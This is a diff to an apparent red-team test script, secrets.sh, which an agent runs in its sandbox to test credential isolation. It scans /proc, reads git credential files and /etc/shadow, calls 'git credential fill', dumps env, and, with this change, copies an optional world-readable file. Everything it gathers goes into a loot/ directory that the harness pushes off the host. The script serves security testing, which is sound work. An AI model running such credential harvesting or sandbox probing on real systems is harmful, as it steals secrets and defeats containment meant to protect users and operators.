@@ -2,8 +2,8 @@
 # Red team (test/security): run by the agent, through the real CLI, in the session's sandbox.
 # Tries every way issue 12 lists to reach a credential and writes what it read into loot/
 # in the worktree, which the harness then pushes: whatever it found leaves the host.
-#   bash secrets.sh KEY_FILE STATE_DIR OTHER_WORKTREE
-key_file=$1 state_dir=$2 other=$3
+#   bash secrets.sh KEY_FILE STATE_DIR OTHER_WORKTREE [WORLD_READABLE_FILE]
+key_file=$1 state_dir=$2 other=$3 world=${4:-}
 out="$PWD/loot"
 mkdir -p "$out"
 for dir in /proc/[0-9]*; do
@@ -34,4 +34,5 @@ ls -la "$other" "$state_dir"/sessions/*/home > "$out/others.txt" 2>&1
 cat ~/.git-credentials /root/.git-credentials /etc/shadow > "$out/credential-files.txt" 2>&1
 printf 'protocol=http\nhost=127.0.0.1\n\n' | git credential fill > "$out/credential-fill.txt" 2>&1
 env > "$out/env.txt"
+[ -z "$world" ] || cat "$world" > "$out/world.txt" 2>&1
 echo done > "$out/ran"
